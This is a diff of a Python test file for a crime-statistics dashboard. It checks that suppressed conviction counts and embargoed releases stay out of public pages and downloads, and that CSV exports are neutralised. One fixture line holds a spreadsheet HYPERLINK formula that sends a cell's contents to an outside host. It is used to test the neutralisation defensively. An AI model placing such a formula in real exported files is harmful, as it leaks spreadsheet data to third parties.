@@ -4,8 +4,11 @@ of it free of suppressed values; human-facing CSVs safe to open in a spreadsheet
 
 The fixture warehouse (tests/dashboards_fixtures.py) has small person counts (2 women
 convicted in 2023, one person through ECRIS), a CRIM_JUST delivery whose file and cells hold
-the true value of a confidential cell, and a release still under embargo; the internal
-snapshot gets a customs post named like a spreadsheet formula before the public one is made.
+the true values of confidential cells, releases still under embargo (a second vintage of
+CRIM_JUST 2023, CRIM_JUST 2024, CRIM_OFF_CAT 2024); the internal snapshot gets a customs post
+named like a spreadsheet formula before the public one is made. The breakdowns of persons
+convicted are the releases' cells as released: checked cell by cell, vintage and embargo,
+and with every suppressed cell's true value planted where a leak would show.
 """
 
 from __future__ import annotations
@@ -13,7 +16,9 @@ from __future__ import annotations
 import contextlib
 import csv
 import io
+import shutil
 from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -25,6 +30,7 @@ from click.testing import CliRunner
 from dashboards_fixtures import (
     CONFIDENTIAL_FILE,
     EMBARGOED_FILE,
+    EMBARGOED_PERSON_RELEASES,
     PAGES,
     RELEASE_FILE,
     TRUE_VALUE_MARK,
@@ -41,6 +47,7 @@ from dashboards.serving import POINTER_FILE, current_snapshot, publish_snapshot
 from sdmx_export.csv_safety import neutralise, neutralise_text
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"post")'
+ECRIS_METRIC = i18n.text("persons_convicted_ecris", "en")
 PUBLIC_PAGES = [p for p in PAGES if p != "quality"]
 
 
@@ -137,8 +144,6 @@ def test_public_files_are_only_public_release_files(home: Path) -> None:
 
 
 def test_embargo_lifts_at_the_next_publication(home: Path, tmp_path: Path) -> None:
-    from datetime import UTC, datetime
-
     internal = current_snapshot(home / "serving")
     assert internal is not None
     later = publish_public_snapshot(internal, tmp_path / "public", exports_dir=home / "exports",
@@ -163,6 +168,166 @@ def test_changed_release_file_is_not_published(home: Path, tmp_path: Path) -> No
     with pytest.raises(SnapshotError, match="does not match the SHA-256"):
         publish_public_snapshot(internal, tmp_path / "public", exports_dir=exports)
     assert current_snapshot(tmp_path / "public") is None
+
+
+# ------------------------------------------------------------------ persons convicted as released
+
+# Each breakdown of the convictions page: its cells' series key in the release (the code in
+# place of {}, dimensions in DSD order) and its codes in the order shown.
+SECTIONS = ("TOTAL", *(f"ICCS{n:02}" for n in range(1, 12)))  # UNMAPPED is never published
+AREAS = ("TOTAL", "TERR", "THB", "DRUG_TRAF", "MIGR_SMUG", "MONEY_LAUND", "ORG_CRIME", "CYBER",
+         "GOODS_SMUG")  # fmt: skip
+CITIZENS = ("TOTAL", "NAT", "EU27_2020_FOR", "NEU27_2020_FOR", "STLS", "UNK")
+AGES = ("TOTAL", "Y_LT18", "Y14-17", "Y_GE18", "Y18-24", "Y25-34", "Y35-44", "Y45-54", "Y55-64",
+        "Y_GE65", "UNK")  # fmt: skip
+BREAKDOWNS = {
+    ("DOM", "sex"): ("A.PER_CNV.TOTAL.{}.TOTAL.TOTAL.NR.LT", ("T", "M", "F")),
+    ("DOM", "age_group"): ("A.PER_CNV.TOTAL.T.{}.TOTAL.NR.LT", AGES),
+    ("DOM", "citizen_group"): ("A.PER_CNV.TOTAL.T.TOTAL.{}.NR.LT", CITIZENS),
+    ("DOM", "iccs_section"): ("A.PER_CNV.{}.T.TOTAL.TOTAL.NR.LT", SECTIONS),
+    ("DOM", "crime_area"): ("A.{}.TOTAL.DOM.NR.LT", AREAS),
+    ("ECRIS", "citizen_group"): ("A.TOTAL.{}.ECRIS.NR.LT", CITIZENS),
+    ("ECRIS", "crime_area"): ("A.{}.TOTAL.ECRIS.NR.LT", AREAS),
+}
+BREAKDOWN_ROWS = (
+    "select ref_year, origin, breakdown, release_id, code, position, persons, conf_status "
+    "from public.persons_convicted_breakdowns order by all"
+)
+
+
+def released_cells(warehouse: Path) -> dict[tuple[str, str, str], tuple[float, str]]:
+    """(release id, series key, period) -> (true value, CONF_STATUS), as recorded."""
+    return {
+        (release_id, key, period): (value, flag)
+        for release_id, key, period, value, flag in query(
+            warehouse, "select release_id, series_key, time_period, obs_value, conf_status "
+            "from releases.release_cells")
+    }  # fmt: skip
+
+
+def breakdown_tables(snapshot: Path) -> dict[tuple[int, str, str, str], list[tuple]]:
+    """The public breakdown rows by (year, origin, breakdown, release id)."""
+    tables: dict[tuple[int, str, str, str], list[tuple]] = {}
+    for year, origin, breakdown, release_id, *row in query(snapshot, BREAKDOWN_ROWS):
+        tables.setdefault((year, origin, breakdown, release_id), []).append(tuple(row))
+    return {key: sorted(rows, key=lambda row: row[1]) for key, rows in tables.items()}
+
+
+def test_public_breakdowns_are_the_released_cells(home: Path) -> None:
+    """Every cell of the public breakdowns (the public snapshot's, and the internal one's
+    for the preview) is its cell of the release as released: the value when free, no value
+    and C otherwise. Every breakdown is whole, in its codes' order, from the latest release
+    out of embargo of its year and dataset; nothing of a year all under embargo (2024)."""
+    cells = released_cells(home / "warehouse.duckdb")
+    internal = current_snapshot(home / "serving")
+    assert internal is not None
+    for snapshot in (public_snapshot(home), internal):
+        tables = breakdown_tables(snapshot)
+        assert {(year, release_id) for year, _, _, release_id in tables} == {
+            (2023, "CRIM_JUST-2023-v1"), (2023, "EJ_XB_CONV-2023-v1")}  # fmt: skip
+        assert sorted((origin, breakdown) for _, origin, breakdown, _ in tables) == sorted(
+            BREAKDOWNS
+        )
+        for (year, origin, breakdown, release_id), rows in tables.items():
+            template, codes = BREAKDOWNS[origin, breakdown]
+            assert [(code, position) for code, position, _, _ in rows] == [
+                (code, position) for position, code in enumerate(codes)]  # fmt: skip
+            for code, _, persons, flag in rows:
+                value, released = cells[release_id, template.format(code), str(year)]
+                expected = (int(value), "F") if released == "F" else (None, "C")
+                assert (persons, flag) == expected, (release_id, breakdown, code)
+    # Not vacuous: the release has free cells and cells it suppressed, C and D alike.
+    flags = {flag for (release_id, _, _), (_, flag) in cells.items()
+             if release_id == "CRIM_JUST-2023-v1"}  # fmt: skip
+    assert flags == {"F", "C", "D"}
+
+
+def test_an_embargoed_vintage_is_used_once_its_embargo_passes(home: Path, tmp_path: Path) -> None:
+    """The internal snapshot keeps every vintage; the public table takes, per year and
+    dataset, the latest vintage out of embargo at its publication: CRIM_JUST-2023-v1 while
+    v2 (late convictions: 5 more in ICCS section 02, free) is under embargo, v2 from the
+    moment it lifts, and 2024 only then."""
+    internal = current_snapshot(home / "serving")
+    assert internal is not None
+    assert query(internal, "select distinct release_id from serving.persons_convicted_breakdowns "
+                 "where dataset = 'CRIM_JUST' order by 1") == [
+        ("CRIM_JUST-2023-v1",), ("CRIM_JUST-2023-v2",), ("CRIM_JUST-2024-v1",)]  # fmt: skip
+
+    def crim_just(snapshot: Path) -> tuple[set[tuple[int, str]], list[tuple]]:
+        releases = {(year, release_id) for year, _, _, release_id in breakdown_tables(snapshot)
+                    if release_id.startswith("CRIM_JUST")}  # fmt: skip
+        section_02 = query(snapshot, "select persons, conf_status from "
+                           "public.persons_convicted_breakdowns where ref_year = 2023 "
+                           "and breakdown = 'iccs_section' and code = 'ICCS02'")  # fmt: skip
+        return releases, section_02
+
+    assert crim_just(public_snapshot(home)) == ({(2023, "CRIM_JUST-2023-v1")}, [(0, "F")])
+    lifted = datetime(2099, 1, 1, 10, tzinfo=UTC)  # CRIM_JUST-2023-v2's and 2024-v1's embargo
+    before = publish_public_snapshot(
+        internal, tmp_path / "before", now=lifted - timedelta(seconds=1)
+    )
+    assert crim_just(before) == ({(2023, "CRIM_JUST-2023-v1")}, [(0, "F")])
+    at = publish_public_snapshot(internal, tmp_path / "at", now=lifted)
+    assert crim_just(at) == (
+        {(2023, "CRIM_JUST-2023-v2"), (2024, "CRIM_JUST-2024-v1")}, [(5, "F")])  # fmt: skip
+
+
+SENTINEL = 271_828_182_000  # + n: the planted true value of the n-th suppressed person cell
+
+
+def test_no_value_of_a_suppressed_release_cell_reaches_the_public_face(
+    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The fixture's warehouse with every suppressed cell of its releases of persons (C or
+    D, every vintage, under embargo or not) given a true value found nowhere else
+    (SENTINEL + n), published again: no column of any table of the public snapshot, nor
+    the internal snapshot's public table, nor anything the public convictions page shows,
+    holds one. The internal snapshot does hold them, so the search finds what is there."""
+    planted = tmp_path / "home"
+    planted.mkdir()
+    shutil.copyfile(home / "warehouse.duckdb", planted / "warehouse.duckdb")
+    with contextlib.closing(duckdb.connect(str(planted / "warehouse.duckdb"))) as con:
+        con.execute(
+            "update releases.release_cells c set obs_value = s.value from (select rowid as id, "
+            f"{SENTINEL} + row_number() over () as value from releases.release_cells "
+            "where conf_status <> 'F' and release_id in (select release_id from "
+            "releases.releases where dataset in ('CRIM_JUST', 'EJ_XB_CONV'))) s "
+            "where c.rowid = s.id"
+        )
+        [(count,)] = con.execute(f"select count(*) from releases.release_cells "
+                                 f"where obs_value > {SENTINEL}").fetchall()  # fmt: skip
+    assert count > 200
+    internal = publish_snapshot(planted / "warehouse.duckdb", planted / "serving",
+                                exports_dir=home / "exports")  # fmt: skip
+    public = publish_public_snapshot(internal, public_serving_dir(planted / "serving"),
+                                     exports_dir=home / "exports")  # fmt: skip
+
+    def holding(snapshot: Path, tables: str = "true") -> set[str]:
+        columns = query(snapshot, "select schema_name, table_name, column_name "
+                        f"from duckdb_columns() where {tables}")  # fmt: skip
+        return {
+            f"{schema}.{table}.{column}"
+            for schema, table, column in columns
+            if query(snapshot, f'select count(*) from "{schema}"."{table}" '
+                     f"where \"{column}\"::varchar like '%{str(SENTINEL)[:9]}%'") != [(0,)]
+        }  # fmt: skip
+
+    assert holding(public) == set()
+    assert holding(internal, "schema_name = 'public'") == set()
+    assert holding(internal) == {"releases.release_cells.obs_value",
+                                 "serving.persons_convicted_breakdowns.persons"}  # fmt: skip
+
+    monkeypatch.setenv("CRIMESTAT_HOME", str(planted))
+    monkeypatch.setenv(PUBLIC_SETTING, "1")
+    downloads = Downloads(monkeypatch)
+    for year in (2023, 2024):
+        app = open_page("convictions", language="en", convictions_year=year)
+        assert not app.exception, [e.value for e in app.exception]
+        shown = [str(e.value) for e in (*app.metric, *app.caption, *app.info, *app.markdown)]
+        shown += [f.value.to_csv() for f in app.dataframe]
+        shown += [content.decode() for _, content in downloads.files]
+        assert not [text for text in shown if str(SENTINEL)[:9] in text]
+    assert downloads.files
 
 
 # ------------------------------------------------------------------ the public face
@@ -235,15 +400,19 @@ def test_public_face_shows_no_suppressed_value(
         assert not any(n in (Path(CONFIDENTIAL_FILE).name, Path(EMBARGOED_FILE).name)
                        for n in names), names  # fmt: skip
         text = " ".join(str(e.value) for e in (*app.markdown, *app.caption, *app.info))
-        assert "CRIM_JUST" not in text and "embargoed" not in text
+        shown = text + " ".join(f.value.to_csv() for f in app.dataframe)
+        assert "embargoed" not in text
+        assert not any(r in shown for r in EMBARGOED_PERSON_RELEASES), page
         if page == "convictions" and state["convictions_year"] == 2023:
-            ecris = [m.value for m in app.metric
-                     if m.label == "Persons convicted (received through ECRIS)"]  # fmt: skip
+            ecris = [m.value for m in app.metric if m.label == ECRIS_METRIC]
             assert ecris == ["C"]
             persons, flag = _flag_columns("en")
             by_sex = next(f.value for f in app.dataframe if {persons, flag} <= set(f.value))
             assert dict(zip(by_sex["Code"], by_sex[persons], strict=True)) == {
-                "TOTAL": "C", "M": "C", "F": "C"}  # fmt: skip
+                "T": "C", "M": "C", "F": "C"}  # fmt: skip
+            assert "CRIM_JUST-2023-v1" in text  # the release each figure comes from
+        if page == "convictions" and state["convictions_year"] == 2024:
+            assert [i.value for i in app.info] == [i18n.text("not_released", "en", year=2024)] * 2
         if page == "releases":
             calendar = next(f.value for f in app.dataframe if "Release" in f.value.columns)
             assert sorted(calendar["Release"]) == ["CRIM_OFF_CAT-2023-v1", "CRIM_OFF_CAT-2023-v2"]
@@ -283,8 +452,7 @@ def test_internal_face_keeps_true_values_and_neutralises_downloads(
     [posts] = [content for name, content in downloads.files if name.startswith("customs_posts_")]
     assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}",Russia border,1'.encode() in posts
     convictions = open_page("convictions", language="en", convictions_year=2023)
-    assert [m.value for m in convictions.metric
-            if m.label == "Persons convicted (received through ECRIS)"] == ["1"]  # fmt: skip
+    assert [m.value for m in convictions.metric if m.label == ECRIS_METRIC] == ["1"]
     assert convictions.toggle  # the statisticians' preview of the public view
 
 
